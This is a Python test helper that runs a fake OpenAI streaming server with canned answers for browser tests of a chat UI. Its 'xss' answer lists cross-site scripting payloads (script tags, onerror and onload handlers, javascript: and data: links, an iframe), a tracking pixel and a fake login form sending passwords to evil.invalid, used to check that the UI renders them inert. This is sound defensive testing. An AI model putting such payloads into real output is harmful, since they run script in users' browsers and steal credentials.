"""The fake OpenAI server of tests.fake_openai, plus canned answers for the browser tests.

The word stream of ``[fake tokens=N]`` cannot contain Markdown or HTML; the browser tests
need both (a Markdown answer to render, an answer with <script> to prove it renders inert).
A prompt with ``[canned NAME]`` streams ``CANNED[NAME]`` in word-sized pieces instead, at the
``rate`` of its ``[fake ...]`` directive if there is one. Everything else is unchanged.

Run it with ``python -m tests.browser.fake_llm --port N`` (test_browser.py's
``BrowserFakeLLM`` does, the way tests.harness.FakeLLM starts the plain one).
"""

from __future__ import annotations

import argparse
import asyncio
import json
import re
import time
from typing import Any

from tests.fake_openai import Behaviour, FakeOpenAI

CANNED = {
    # Each line is a way model output has been used to run script or leak data in a chat UI.
    "xss": (
        "Here is what you asked for.\n\n"
        '<script>window.__xss = "script"; alert("script")</script>\n\n'
        "<img src=\"x\" onerror=\"window.__xss = 'img-onerror'; alert('img')\">\n\n"
        "- [a javascript link](javascript:window.__xss='javascript-link')\n"
        "- <a href=\"javascript:window.__xss='raw-javascript-link'\">a raw javascript link</a>\n"
        "- <a href=\"JaVaScRiPt:window.__xss='mixed-case'\">a mixed-case link</a>\n"
        "- [a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n"
        "- ![a tracking pixel](https://tracker.invalid/pixel.png)\n\n"
        '<svg onload="window.__xss = \'svg\'"><circle r="5"/></svg>\n\n'
        "<iframe srcdoc=\"<script>parent.__xss = 'iframe'</script>\"></iframe>\n\n"
        '<div style="position:fixed;inset:0;background:red" '
        "onmouseover=\"window.__xss = 'overlay'\">an overlay</div>\n\n"
        '<form action="https://evil.invalid/"><input name="password">'
        "<button>Log in again</button></form>\n\n"
        "**This bold text is harmless and stays.**\n"
    ),
    "markdown": (
        "## Making a streaming UI resilient\n\n"
        "A stream can break at any moment, so the client should treat the **event log** as "
        "the source of truth and keep its place in it:\n\n"
        "1. Remember the last `seq` you applied.\n"
        "2. On reconnect, ask for everything *after* it.\n"
        "3. Drop anything you have already seen.\n\n"
        "```js\n"
        "const stream = await client.stream({ prompt });\n"
        "for await (const { text } of stream) render(text);\n"
        "```\n\n"
        "| transport | when |\n"
        "|---|---|\n"
        "| WebSocket | first choice |\n"
        "| SSE | when a proxy blocks WebSockets |\n\n"
        "> Reloading the page resumes the same answer from `sessionStorage`.\n\n"
        "See [the protocol](https://example.com/protocol) for the details.\n"
    ),
}
_CANNED = re.compile(r"\[canned (\w+)\]")


def pieces(text: str) -> list[str]:
    """Word-sized pieces, so that tags and links arrive split across deltas."""
    return re.findall(r"\s*\S{1,6}|\s+", text)


class CannedFakeOpenAI(FakeOpenAI):
    async def _stream(
        self,
        request: dict[str, Any],
        behaviour: Behaviour,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
    ) -> bool:
        prompt = "\n".join(str(m.get("content", "")) for m in request.get("messages", []))
        match = _CANNED.search(prompt)
        if not match:
            return await super()._stream(request, behaviour, reader, writer)
        chunks = pieces(CANNED[match.group(1)])
        writer.write(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n"
            b"Transfer-Encoding: chunked\r\nCache-Control: no-cache\r\n\r\n"
        )
        base = {
            "id": "chatcmpl-canned",
            "object": "chat.completion.chunk",
            "created": int(time.time()),
            "model": request.get("model", "fake"),
        }

        def send(payload: str) -> None:
            data = f"data: {payload}\n\n".encode()
            writer.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")

        def chunk(delta: dict[str, Any], finish: str | None = None) -> str:
            choice = {"index": 0, "delta": delta, "finish_reason": finish}
            return json.dumps({**base, "choices": [choice]}, ensure_ascii=False)

        send(chunk({"role": "assistant", "content": ""}))
        started = time.monotonic()
        for index, text in enumerate(chunks):
            if behaviour.rate:
                delay = started + index / behaviour.rate - time.monotonic()
                if delay > 0:
                    await asyncio.sleep(delay)
            send(chunk({"content": text}))
            await writer.drain()
        send(chunk({}, "stop"))
        if (request.get("stream_options") or {}).get("include_usage"):
            usage = {"prompt_tokens": 5, "completion_tokens": len(chunks)}
            usage["total_tokens"] = usage["prompt_tokens"] + usage["completion_tokens"]
            send(json.dumps({**base, "choices": [], "usage": usage}))
        send("[DONE]")
        writer.write(b"0\r\n\r\n")
        await writer.drain()
        return True


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--port", type=int, required=True)
    args = parser.parse_args()
    fake = CannedFakeOpenAI(Behaviour())

    async def serve() -> None:
        await fake.start("127.0.0.1", args.port)
        assert fake.server is not None
        await fake.server.serve_forever()

    asyncio.run(serve())


if __name__ == "__main__":
    main()
